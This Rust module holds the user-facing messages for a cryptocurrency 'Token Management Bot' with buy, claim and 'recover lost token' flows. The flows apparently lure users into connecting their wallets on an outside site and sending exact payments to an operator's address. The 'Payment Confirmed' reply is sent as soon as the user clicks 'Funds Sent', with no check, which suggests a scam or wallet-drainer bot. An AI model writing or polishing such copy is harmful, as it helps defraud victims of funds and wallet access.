//! User-facing copy. Dynamic pieces (company name, price table,
//! payment wallet) are formatted here so the dispatcher stays the
//! single source of every reply text.

use crate::config::Config;
use crate::enums::{TokenKind, UserAction, UserState};

pub const WELCOME_TEXT: &str = "🚀 Welcome to the Token Management Bot!\n\n\
    What would you like to do today?\n\n\
    1️⃣ Buy Token - Purchase new tokens\n\
    2️⃣ Claim Tokens - Claim your allocated tokens\n\
    3️⃣ Recover Lost Token - Recover tokens from lost wallet";

pub const WALLET_CONNECTION_TEXT: &str = "Please connect your wallet to proceed.";

pub const CONNECT_WALLET_FIRST_TEXT: &str = "Please connect your wallet first!";

pub const MAIN_MENU_TEXT: &str = "🎯 Main Menu\n\n\
    What would you like to do?\n\n\
    💰 Buy Tokens - Purchase new tokens\n\
    🎁 Claim Tokens - Claim your allocated tokens\n\
    🔍 Recover Lost Token - Recover tokens from lost wallet";

pub const RECOVERY_TEXT: &str = "🔍 Recover Lost Token\n\n\
    To recover your lost tokens, you need to connect your wallet first.\n\n\
    Click the button below to connect your wallet:";

pub const RESET_TEXT: &str = "🔄 Bot Reset Complete!\n\n\
    You've been reset to the beginning. Let's start fresh! 🚀";

pub const USE_BUTTONS_TEXT: &str = "Please use the buttons to navigate the bot.";

pub const ERROR_TEXT: &str = "❌ Something went wrong\n\n\
    Please try again or contact support if the problem persists.";

pub const SUPPORT_TEXT: &str = "📞 Support Information\n\n\
    For technical support or questions:\n\n\
    🔗 Official Channels:\n\
    - Website: [Your Website]\n\
    - Email: support@yourdomain.com\n\
    - Telegram Group: [Your Group Link]\n\n\
    ⏰ Response Time: 24-48 hours\n\n\
    📋 Before contacting support:\n\
    1. Check the help section\n\
    2. Ensure wallet is properly connected\n\
    3. Verify payment details\n\
    4. Check network compatibility\n\n\
    We're here to help! 🚀";

pub fn help_message(company: &str) -> String {
    format!(
        "ℹ️ {} Bot Help\n\n\
        🔗 Wallet Connection:\n\
        1. Click \"Connect Wallet\" button\n\
        2. Complete wallet connection on web platform\n\
        3. Return to bot automatically\n\n\
        💰 Buying Tokens:\n\
        1. Select \"Buy Tokens\" from main menu\n\
        2. Choose your investment amount\n\
        3. Send payment to provided wallet address\n\
        4. Click \"Funds Sent\" after payment\n\n\
        🎁 Claiming Tokens:\n\
        1. Select \"Claim Tokens\" from main menu\n\
        2. Tokens are claimed automatically!\n\
        3. You'll receive them in your connected wallet\n\n\
        🔄 Reset: Use reset button to start over\n\n\
        📞 Support: Contact support for additional help",
        company
    )
}

pub fn token_selection_message(action: UserAction) -> String {
    format!(
        "🎯 {} Tokens\n\n\
        Please select the token you want to {}:\n\n\
        1️⃣ XRP - Ripple token\n\
        2️⃣ WLFI - WLFI token\n\
        3️⃣ ERC TOKENS - Ethereum-based tokens",
        action.label(),
        action.as_str()
    )
}

pub fn token_selected_message(token: TokenKind) -> String {
    format!(
        "🎯 {} Selected!\n\n\
        Now you need to connect your wallet to proceed.\n\n\
        Click the button below to connect your wallet:",
        token.display_name()
    )
}

pub fn payment_details_message(usd: u32, quantity: u64, config: &Config) -> String {
    format!(
        "💰 Payment Details\n\n\
        Selected Amount: ${}\n\
        Tokens to Receive: {} {} tokens\n\n\
        📝 Payment Instructions:\n\n\
        Send exactly ${} to this wallet address:\n\
        `{}`\n\n\
        ⚠️ Important:\n\
        - Only send the exact amount: ${}\n\
        - Use the correct network (Ethereum/BSC)\n\
        - Wait for confirmation before clicking \"Funds Sent\"\n\n\
        After sending payment, click \"✅ Funds Sent\" below.",
        usd, quantity, config.company_name, usd, config.payment_wallet_address, usd
    )
}

pub fn funds_sent_message(usd: u32, quantity: u64, company: &str) -> String {
    format!(
        "🎉 Congratulations! 🎉\n\n\
        ✅ Payment Confirmed: ${}\n\n\
        🎯 Status: Processing\n\
        ⏱️ Time: 24-48 hours\n\n\
        Your {} {} tokens will be sent to your connected wallet!\n\n\
        You'll receive a notification once the tokens are sent!\n\n\
        Thank you for your investment! 🚀💰",
        usd, quantity, company
    )
}

/// The single congratulations builder for a completed wallet
/// connection. Both trigger paths (the in-chat `wallet_connected`
/// button and the `return_<id>` deep link) call this with the record
/// as it was *before* the connection is marked, so the branch over
/// `(state, action, token)` is identical either way.
pub fn wallet_connected_message(
    state: UserState,
    action: Option<UserAction>,
    token: Option<TokenKind>,
) -> String {
    if state == UserState::Recovery {
        return "🎉 Congratulations!\n\n\
            Your wallet has been successfully connected for token recovery!\n\n\
            📋 Recovery Status:\n\
            ✅ Wallet connected and verified\n\
            ⏳ Recovery process initiated\n\
            ⏰ Estimated time: Not less than 24 hours\n\n\
            We'll process your recovery request and notify you once completed."
            .to_string();
    }

    match (action, token) {
        (Some(UserAction::Buy), Some(token)) => format!(
            "🎉 Congratulations!\n\n\
            Your wallet has been successfully connected!\n\n\
            📋 Purchase Status:\n\
            ✅ Wallet connected and verified\n\
            🎯 Token: {}\n\
            💰 Action: Buy tokens\n\
            ⏳ Processing your purchase...\n\n\
            Your {} tokens will be processed shortly!",
            token.display_name(),
            token.display_name()
        ),
        (Some(UserAction::Claim), Some(token)) => format!(
            "🎉 Congratulations!\n\n\
            Your wallet has been successfully connected!\n\n\
            📋 Claim Status:\n\
            ✅ Wallet connected and verified\n\
            🎯 Token: {}\n\
            🎁 Action: Claim tokens\n\
            ⏳ Processing your claim...\n\n\
            Your {} tokens are being claimed!",
            token.display_name(),
            token.display_name()
        ),
        _ => "🎉 Congratulations!\n\n\
            Your wallet has been successfully connected!\n\n\
            You can now proceed with your token operations."
            .to_string(),
    }
}
